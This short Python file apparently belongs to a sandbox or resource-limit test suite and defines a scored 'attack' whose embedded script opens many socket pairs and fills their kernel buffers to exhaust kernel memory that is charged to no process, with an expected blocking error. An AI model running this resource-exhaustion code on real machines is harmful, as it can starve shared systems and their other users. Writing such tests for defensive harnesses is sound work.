from attack import Attack

# what waits in a socket is the kernel's memory, which counts against no process
_TEXT = """
import socket
pairs = []
while len(pairs) < 100:
    pairs.append(socket.socketpair())
    for one in pairs[-1]:
        one.setblocking(False)
        try:
            while True: one.send(bytes(4096))
        except BlockingIOError: pass
print("the-attack-succeeded")
"""
ATTACK = Attack(
    "to fill the memory in which packets wait",
    figure=_TEXT,
    points={"pick": 2.0},
    reason="Too many open files",
)
